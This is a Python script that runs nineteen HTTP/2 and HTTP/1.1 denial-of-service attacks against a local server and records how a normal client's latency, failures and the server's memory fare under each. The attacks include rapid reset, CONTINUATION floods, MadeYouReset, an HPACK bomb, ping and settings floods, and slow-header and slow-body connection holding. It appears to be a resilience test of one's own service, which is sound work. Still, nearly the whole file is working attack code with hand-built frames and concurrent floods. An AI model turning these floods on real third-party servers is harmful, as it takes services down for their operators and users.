"""Misuse of a public side that speaks HTTP/2 over TLS: abuse.py PORT PID TOKEN SECONDS SECONDS: how long each kind goes on that
the server holds to a time, and how long those whose connections it ends at once. For each kind a line of JSON: how many
connections were opened, refused and ended by the server, how the calls of a polite caller went before and meanwhile, how long
it was until they went as before, and by how many bytes the server's memory grew."""

import http.client
import json
import math
import os
import select
import signal
import socket
import ssl
import struct
import sys
import threading
import time

PORT, PID, TOKEN, SECONDS, SECONDS_OF_ENDED = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], *map(float, sys.argv[4:6])
PATH = "/api/v1/users/me"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def context(*protocols):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols(protocols)
    return made


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A string of HPACK without Huffman's code (RFC 7541 §5.2)."""
    data, rest = value.encode(), len(value.encode()) - 127
    if rest < 0:
        return bytes([len(data)]) + data
    coded = b"\x7f"
    while rest >= 128:
        coded, rest = coded + bytes([rest % 128 + 128]), rest // 128
    return coded + bytes([rest]) + data


def field(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def block(method="GET", path=PATH, extra=()):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "127.0.0.1"), *extra]
    return b"".join(field(*one) for one in fields)


class Peer:
    """A connection that sends whatever it is told to."""

    def __init__(self, source, settings=b"", protocol="h2"):
        plain = socket.create_connection(("127.0.0.1", PORT), 5, (source, 0))
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = context(protocol).wrap_socket(plain) if protocol else plain
        if protocol == "h2":
            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))

    def send(self, data):
        """False where the server has ended the connection, or takes nothing."""
        self.socket.settimeout(0.5)
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def is_open(self):
        """Discards what has arrived; returns false after the end of the connection."""
        self.socket.settimeout(0)
        for _ in range(64):
            try:
                if not self.socket.recv(65536):
                    return False
            except (ssl.SSLWantReadError, BlockingIOError):
                return True
            except OSError:
                return False
        return True


# Each kind sends until the server ends the connection, and then returns True, or until the time is over.

def streams(make):
    def run(peer, is_over):
        stream = 1
        while not is_over():
            if not peer.send(b"".join(make(number) for number in range(stream, stream + 40, 2))) or not peer.is_open():
                return True
            stream += 40
    return run


def repeated(one, first=b"", count=100, reads=True, pause=0.0):
    def run(peer, is_over):
        peer.send(first)
        while not is_over():
            if not peer.send(one * count) or reads and not peer.is_open():
                return True
            time.sleep(pause)
    return run


def held(first=b"", then=b""):
    def run(peer, is_over):
        peer.send(first)
        while not is_over():
            if not peer.is_open() or then and not peer.send(then):
                return True
            time.sleep(0.2)
    return run


def bodies(peer, is_over):
    """Bodies that never end, on as many streams as there may be."""
    head = block("POST", "/api/v1/lists", (("authorization", f"Bearer {TOKEN}"), ("content-type", "application/json")))
    for stream in range(1, 160, 2):
        if not peer.send(frame(HEADERS, END_HEADERS, stream, head)):
            return True
    while not is_over():
        for stream in range(1, 160, 2):
            if is_over() or not peer.send(frame(DATA, 0, stream, b"x" * 8_000)) or not peer.is_open():
                return True


def answers(peer, is_over):
    """Large answers that nobody takes."""
    for stream in range(1, 160, 2):
        if not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path="/api/v1/openapi.json"))):
            return True
    return held()(peer, is_over)


def bomb(peer, is_over):
    """One large field in the table, and then thousands of references to it."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, block() + field("x-bomb", "b" * 3_800, indexed=True))
    peer.send(first)
    return streams(
        lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, block() + b"\xbe" * 4_000))(peer, is_over)


OPEN = frame(HEADERS, END_HEADERS, 1, block("POST", "/api/v1/auth/login", (("content-type", "application/json"),)))
#: name: connections at once, settings, protocol, what is done; None for TCP without TLS.
KINDS = {
    "rapid_reset": (8, b"", "h2", streams(
        lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block()) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)))),
    "continuation": (8, b"", "h2", repeated(
        frame(CONTINUATION, 0, 1, b""), frame(HEADERS, 0, 1, block()), count=20)),
    "settings": (8, b"", "h2", repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 32))),
    "ping": (8, b"", "h2", repeated(frame(PING, 0, 0, b"abcdefgh"))),
    "ping_unread": (8, b"", "h2", repeated(frame(PING, 0, 0, b"abcdefgh"), reads=False)),
    "made_you_reset": (8, b"", "h2", streams(
        lambda s: frame(HEADERS, END_HEADERS, s, block()) + frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0x7FFFFFFF)))),
    "hpack_bomb": (8, b"", "h2", bomb),
    "empty_data": (8, b"", "h2", repeated(frame(DATA, 0, 1), OPEN)),
    "priority": (8, b"", "h2", repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)))),
    "window_update": (8, b"", "h2", repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
    "malformed": (8, b"", "h2", streams(
        lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block() + field("Upper", "x")))),
    "slow_headers": (200, b"", "h2", held(frame(HEADERS, 0, 1, block()))),
    "slow_bodies": (200, b"", "h2", held(OPEN, frame(DATA, 0, 1, b"x"))),
    "endless_bodies": (16, b"", "h2", bodies),
    "answers_not_taken": (32, struct.pack(">HI", 4, 0), "h2", answers),
    "idle": (400, b"", "h2", held()),
    "no_handshake": (400, b"", None, held()),
    "slow_lines": (200, b"", "http/1.1", held(b"GET / HTTP/1.1\r\nhost: a\r\n", b"x: y\r\n")),
    "pipelined": (16, b"", "http/1.1", repeated(b"GET /api/v1/users/me HTTP/1.1\r\nhost: a\r\n\r\n", reads=False)),
}

#: Seconds between the calls of others.
PAUSE = 0.02
#: Kinds that the server holds to a time, which is longer than this takes.
HELD = {"slow_headers", "slow_bodies", "endless_bodies", "answers_not_taken", "idle", "no_handshake", "slow_lines",
        "pipelined"}


class Attack:
    """Many connections at once, each opened again when the server has ended it."""

    def __init__(self, kind):
        count, self.settings, self.protocol, self.run = KINDS[kind]
        self.over, self.opened, self.refused, self.ended = threading.Event(), 0, 0, 0
        # Several addresses, below the number of connections that each may have.
        self.threads = [threading.Thread(target=self.go_on, args=(f"127.0.1.{1 + number // 100}",), daemon=True)
                        for number in range(count)]

    def go_on(self, source):
        while not self.over.is_set():
            try:
                peer = Peer(source, self.settings, self.protocol)
            except OSError:
                self.refused += 1
                self.over.wait(0.1)
                continue
            self.opened += 1
            if self.run(peer, self.over.is_set) and not self.over.is_set():
                self.ended += 1
            peer.socket.close()
            # One core may be all there is, and the attackers' part of it is not what is measured.
            self.over.wait(0.05)


def attack(kind, told):
    os.nice(10)
    attack = Attack(kind)
    for thread in attack.threads:
        thread.start()
    # Resets are a server's own work for a while before there are too many.
    time.sleep(SECONDS if kind in HELD or kind == "rapid_reset" else SECONDS_OF_ENDED)
    # On a slow machine it takes longer until the server has seen enough.
    patience = time.monotonic() + 30
    while time.monotonic() < patience and not (attack.opened if kind in HELD else attack.ended):
        time.sleep(0.1)
    attack.over.set()
    told.write(json.dumps({"opened": attack.opened, "refused": attack.refused, "ended": attack.ended}))
    told.flush()
    os._exit(0)


def resident():
    with open(f"/proc/{PID}/status", encoding="ascii") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:")) * 1024


class Polite:
    """Calls one after the other on one connection."""

    def __init__(self):
        self.connection = http.client.HTTPSConnection("127.0.0.1", PORT, timeout=60, context=context("http/1.1"))
        self.taken, self.failed = [], 0

    def call(self):
        begun = time.monotonic()
        try:
            self.connection.request("GET", PATH, headers={"authorization": f"Bearer {TOKEN}"})
            answer = self.connection.getresponse()
            answer.read()
            self.failed += answer.status != 200
        except (OSError, http.client.HTTPException):
            self.failed += 1
            self.connection.close()
        self.taken.append(time.monotonic() - begun)


def p99(taken):
    """What 99 of a hundred calls took at most, in milliseconds; of few calls that of the slowest."""
    return round(sorted(taken)[math.ceil(len(taken) * 0.99) - 1] * 1e3, 1)


def quiet():
    """What calls take beside a process that is as hungry as those who misuse the server and leaves it alone: attackers are on the same
    machine, and their part of it is not what is measured. With the same pauses as then, which leave caches cold."""
    hungry = os.fork()
    if hungry == 0:
        os.nice(10)
        while True:
            pass
    try:
        caller, end = Polite(), time.monotonic() + SECONDS_OF_ENDED / 2
        while len(caller.taken) < 20 or time.monotonic() < end:
            caller.call()
            time.sleep(PAUSE)
        return caller.taken
    finally:
        os.kill(hungry, signal.SIGKILL)
        os.waitpid(hungry, 0)


def settle():
    """Waits until nothing is left of what was done before; how long that took."""
    begun, caller = time.monotonic(), Polite()
    while time.monotonic() - begun < 20:
        caller.call()
        if len(caller.taken) > 1 and caller.taken[-1] < 0.2:
            break
    return time.monotonic() - begun


def main():
    settle()
    first = resident()
    for kind in KINDS:
        calm = p99(quiet())
        before, polite = resident(), Polite()
        reading, writing = os.pipe()
        child = os.fork()
        if child == 0:
            attack(kind, os.fdopen(writing, "w"))
        os.close(writing)
        peak = before
        with os.fdopen(reading) as told:
            while not select.select([told], [], [], PAUSE)[0]:
                polite.call()
                peak = max(peak, resident())
            outcome = json.load(told)
        os.waitpid(child, 0)
        outcome.update(kind=kind, calls=len(polite.taken), failed=polite.failed, before=calm, during=p99(polite.taken),
                       slowest=round(max(polite.taken) * 1e3), calm=round(settle() * 1e3), grown=peak - before,
                       inAll=peak - first)
        print(json.dumps(outcome), flush=True)


main()
